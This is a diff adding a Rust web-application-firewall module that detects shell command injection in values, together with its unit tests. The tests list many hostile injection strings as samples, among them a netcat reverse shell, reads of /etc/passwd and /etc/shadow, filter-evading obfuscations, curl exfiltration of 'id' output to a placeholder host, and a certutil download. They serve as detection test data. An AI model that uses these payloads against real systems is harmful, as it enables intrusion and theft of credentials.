@@ -1,0 +1,257 @@
+//! Shells: whether a value begins another command in the command line around it.
+//!
+//! A value does harm where it ends a word or a command and begins a command of its own: after `;`, `|`,
+//! `&`, a line break, or within `$(…)` and backquotes. The word after each of those places is read as the
+//! shell reads it, without the quotes, escapes and empty expansions that hide it from filters, and is
+//! looked up among the programs of a system. Many of those are also words that people use, so what
+//! follows counts too: an option, a path, an address, or nothing.
+
+mod commands;
+mod word;
+
+use self::commands::{Class, class};
+use self::word::{Argument, Word, argument, word};
+use super::{Strength, is_document};
+
+pub(in crate::waf) use self::word::Dialect;
+
+/// Places of a value that are tried as the beginning of a command.
+const MAX_PLACES: usize = 64;
+
+/// What stands before a command.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Separator {
+    Start,
+    /// `;`, `&&`, `||` or the end of a line.
+    Sequence,
+    Pipe {
+        is_in_list: bool,
+    },
+    Background,
+    /// `$(`, `<(`, `>(`
+    Substitution,
+    Backquote {
+        is_in_text: bool,
+    },
+}
+
+/// How sure it is that a value is a command injection.
+pub(in crate::waf) fn shell(value: &[u8], dialect: Dialect) -> Option<Strength> {
+    let start = judge(value, Separator::Start, dialect);
+    let mut found = start;
+    let mut from = 0;
+    for _ in 0..MAX_PLACES {
+        let Some((separator, command)) = next_command(value, from, dialect) else { break };
+        found = found.max(judge(value.get(command..)?, separator, dialect));
+        if found == Some(Strength::Certain) {
+            break;
+        }
+        from = command;
+    }
+    let found = found?;
+    Some(if is_document(value) { found.in_document() } else { found })
+}
+
+/// The next separator from a place on, and where the command after it begins.
+fn next_command(value: &[u8], from: usize, dialect: Dialect) -> Option<(Separator, usize)> {
+    let mut at = from;
+    loop {
+        let byte = *value.get(at)?;
+        let next = value.get(at + 1).copied();
+        let is_unix = dialect == Dialect::Unix;
+        match (byte, next) {
+            (b'&', Some(b'&')) | (b'|', Some(b'|')) => return Some((Separator::Sequence, at + 2)),
+            (b';', _) if is_unix => return Some((Separator::Sequence, at + 1)),
+            (b'\n' | b'\r', _) => return Some((Separator::Sequence, at + 1)),
+            (b'|', _) => {
+                let is_in_list = at > 0 && value.get(at - 1).is_some_and(u8::is_ascii_alphabetic);
+                return Some((Separator::Pipe { is_in_list }, at + 1));
+            }
+            (b'&', _) => return Some((Separator::Background, at + 1)),
+            (b'$' | b'<' | b'>', Some(b'(')) if is_unix => return Some((Separator::Substitution, at + 2)),
+            (b'`', _) if is_unix => {
+                return Some((Separator::Backquote { is_in_text: is_in_text(value, at) }, at + 1));
+            }
+            _ => at += 1,
+        }
+    }
+}
+
+/// Markdown writes names of programs so.
+fn is_in_text(value: &[u8], at: usize) -> bool {
+    let before = value.get(..at).unwrap_or_default();
+    let words = before.split(|byte| *byte == b' ').filter(|word| word.iter().all(u8::is_ascii_alphabetic));
+    words.filter(|word| !word.is_empty()).count() >= 2
+}
+
+fn judge(text: &[u8], separator: Separator, dialect: Dialect) -> Option<Strength> {
+    let (word, rest) = word(text, dialect)?;
+    named(&word, &argument(rest, dialect), separator, dialect)
+}
+
+fn named(word: &Word, argument: &Argument, separator: Separator, dialect: Dialect) -> Option<Strength> {
+    use Strength::{Certain, Likely, Possible};
+    if word.is_glob_path() {
+        return Some(if separator == Separator::Start { Likely } else { Certain });
+    }
+    let class = class(word.name(), dialect)?;
+    if word.has_separator_expansion || argument.has_separator_expansion {
+        return Some(Certain);
+    }
+    if word.is_in_bin() && dialect == Dialect::Unix {
+        return Some(if separator == Separator::Start && !argument.is_given() { Likely } else { Certain });
+    }
+    if word.is_disguised {
+        return Some(if separator == Separator::Start && !argument.is_given() { Possible } else { Certain });
+    }
+    // What only a command line has after the name of a program.
+    let is_called = argument.is_given() || class.is_called_with(argument);
+    match (separator, class) {
+        (Separator::Start, Class::Noun | Class::Everyday { .. }) if is_called => Some(Possible),
+        (Separator::Start, _) => is_called.then_some(Likely),
+        (Separator::Backquote { is_in_text: true }, _) => Some(Likely),
+        (Separator::Substitution | Separator::Backquote { .. }, _) if is_called || argument.is_end => {
+            Some(Certain)
+        }
+        (Separator::Substitution, Class::Program) => Some(Certain),
+        (_, _) if is_called => Some(Certain),
+        (Separator::Pipe { is_in_list: true }, Class::Everyday { runs_alone: true }) if argument.is_end => {
+            Some(Likely)
+        }
+        // `cmd.exe` ends a command with it.
+        (Separator::Background, Class::Everyday { runs_alone }) if argument.is_end => {
+            Some(if runs_alone && dialect == Dialect::Windows { Certain } else { Possible })
+        }
+        (_, Class::Program | Class::Everyday { runs_alone: true }) if argument.is_end => Some(Certain),
+        (Separator::Pipe { is_in_list: true }, _) => Some(Possible),
+        (_, Class::Program) => Some(Likely),
+        _ => Some(Possible),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn check(value: &str, holds: bool) {
+        assert!(holds, "{value}");
+    }
+
+    #[test]
+    fn commands_of_unix() {
+        for value in [
+            "x; cat /etc/hostname",
+            "a | id",
+            "|id",
+            ";id",
+            "1 && wget http://e.example/x",
+            "$(whoami)",
+            "`id`",
+            "x\nid\n",
+            "; ls -la",
+            "|| sleep 5",
+            "& ping -c 5 127.0.0.1 &",
+            "c\\at /etc/passwd;",
+            "; c''at /etc/passwd",
+            ";w$@hoami",
+            "cat${IFS}/etc/passwd",
+            ";cat$IFS/etc/passwd",
+            "{cat,/etc/passwd}",
+            ";/bin/cat /etc/passwd",
+            ";/???/c?t /???/p??s??",
+            "| nc -e /bin/sh 192.0.2.1 4444",
+            "; echo test",
+            "a;uname -a",
+            "127.0.0.1; ls",
+            "127.0.0.1 | whoami",
+            "$(sleep 5)",
+            "`sleep 5`",
+            ";python3 -c 'import os'",
+            "x;ps",
+            "<(curl http://e.example)",
+            "test;{ls,-la}",
+            "\"; cat /etc/passwd #",
+            "'; curl http://e.example/$(id)",
+            "; \"cat\" /etc/passwd",
+            "|ca\"\"t /etc/passwd",
+            "; sudo cat /etc/shadow",
+            "; FOO=1 bash -c id",
+            "a;wh'o'ami",
+            "||whoami",
+            "; nslookup e.example",
+            "&&ifconfig",
+        ] {
+            check(value, shell(value.as_bytes(), Dialect::Unix) == Some(Strength::Certain));
+        }
+        for value in [
+            "salt & pepper",
+            "cats; dogs; birds",
+            "Q&A: find your way",
+            "id|name|date",
+            "dog|cat",
+            "a; find out",
+            "PS: see you; who knows",
+            "rock & roll; more or less",
+            "{name}, welcome",
+            "php|python|ruby",
+            "c; python; ruby",
+            "$(document).ready",
+            "Tom & Jerry; head over heels",
+            "I'd sort it; then cut it",
+            "",
+            ";",
+            "$5 (or more)",
+            "AT&T",
+            "a|b",
+            "less is more",
+            "user-agent; charset=utf-8",
+            "first\nsecond",
+            "text/html; q=0.9",
+            "cat pictures",
+            "find & replace",
+            "date; time; host",
+            "key=value; path=/",
+        ] {
+            check(value, shell(value.as_bytes(), Dialect::Unix) < Some(Strength::Likely));
+        }
+    }
+
+    #[test]
+    fn commands_of_windows() {
+        for value in [
+            "& dir",
+            "| type c:\\windows\\win.ini",
+            "&& ipconfig /all",
+            "& net user",
+            "| whoami",
+            "&ping -n 5 127.0.0.1&",
+            "x & cmd /c dir",
+            "& powershell -enc SQBFAFgA",
+            "|w^h^o^a^m^i",
+            "& reg query HKLM",
+            "&& systeminfo",
+            "& certutil -urlcache -f http://e.example/a",
+            "& timeout /t 5",
+            "| ver",
+            "&tasklist",
+        ] {
+            check(value, shell(value.as_bytes(), Dialect::Windows) == Some(Strength::Certain));
+        }
+        for value in [
+            "salt & pepper",
+            "copy & paste",
+            "the net & the user",
+            "date | time",
+            "start & set off",
+            "R&D",
+            "echo & sound",
+        ] {
+            check(value, shell(value.as_bytes(), Dialect::Windows) < Some(Strength::Likely));
+        }
+    }
+
+    #[test]
+    fn many_separators_end() {
+        assert_eq!(shell(";".repeat(1 << 20).as_bytes(), Dialect::Unix), None);
+    }
+}
